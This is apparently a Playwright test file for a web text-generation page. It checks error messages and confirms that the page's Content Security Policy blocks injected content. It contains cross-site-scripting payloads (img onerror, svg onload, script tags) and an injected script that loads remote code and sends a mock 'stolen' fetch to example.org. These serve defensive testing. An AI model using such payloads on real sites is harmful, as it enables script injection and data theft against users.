"""Mistakes of visitors, and attacks by malicious ones."""

import pytest

from tests.app.visitor import wait_figures

HOSTILE = (
    '<img src=x onerror="window.hit=1"> ${window.hit=2} {{window.hit}} </script><script>'
    "window.hit=3</script> `${alert(1)}` <svg onload=window.hit=4> javascript:window.hit=5"
)
ATTACK = """async () => {
  const box = document.createElement("div");
  document.body.append(box);
  box.innerHTML = '<img src="x:" onerror="window.hit = 1"><svg onload="window.hit = 2"></svg>';
  const script = document.createElement("script");
  script.textContent = "window.hit = 3";
  document.head.append(script);
  for (const url of ["https://example.org/x.js", "https://example.org/x.png"]) {
    await new Promise((go) => {
      const made = document.createElement(url.endsWith("js") ? "script" : "img");
      made.onload = made.onerror = go;
      made.src = url;
      document.head.append(made);
    });
  }
  await fetch("https://example.org/?stolen").catch(() => {});
  await new Promise((go) => setTimeout(go, 100));
  box.remove();
}"""


@pytest.mark.journey
def test_mistakes_are_told_and_hostile_text_stays_text(visit, tabs, tmp_path):
    visitor = visit()
    page = visitor.page
    assert visitor.run("   ") == "error"
    assert "rompt" in visitor.alarm
    full = {"status": 503, "json": {"detail": "Queue is full. Max size is 32."}}
    page.route("**/queue/join*", lambda route: route.fulfill(**full))
    assert visitor.run("Once upon a time") == "error"
    assert "server" in visitor.alarm
    page.unroute("**/queue/join*")
    assert visitor.run() == "done"
    assert visitor.alarm == ""
    # the second is within the page's limit on characters, over the model's limit on tokens
    for prompt, words in (("dog " * 2000, "8,000 characters"), ("\u2603" * 3900, "tokens")):
        assert visitor.run(prompt) == "error"
        assert words in visitor.alarm
    visitor.pick("prompt_lookup")
    assert visitor.run(HOSTILE + " " + HOSTILE) == "done"
    assert HOSTILE in page.inner_text("#text")
    wait_figures(page)
    assert page.evaluate("window.hit") is None
    assert page.locator("img[src=x], [onerror], [onload]").count() == 0
    with page.expect_download() as download:
        page.click("#save-page")
    file = tmp_path / "run.html"
    download.value.save_as(file)
    assert "<img src=x" not in file.read_text("utf-8")
    alone = tabs.open(offline=True)
    alone.goto(file.as_uri())
    alone.wait_for_selector("#tree g[data-node], #tree [data-final]", state="attached")
    assert alone.evaluate("window.hit") is None
    tabs.close(alone)
    with page.expect_download() as download:
        page.click("#save-trace")
    page.set_input_files("#open-trace", download.value.path())
    page.locator("#watch-status").get_by_text("Opened").wait_for()
    assert HOSTILE in page.inner_text("#text")
    assert page.evaluate("window.hit") is None
    assert visitor.failures == [], "nothing that the page does is refused by its own policy"
    page.evaluate(ATTACK)
    assert page.evaluate("window.hit") is None, "smuggled scripts do not run"
    refused = " ".join(visitor.failures)
    for directive in ("script-src", "img-src", "default-src"):
        assert f'directive: "{directive}' in refused, directive
    assert len(visitor.failures) >= 5
    visitor.failures.clear()
    visitor.foreign.clear()  # requested, but stopped by the browser
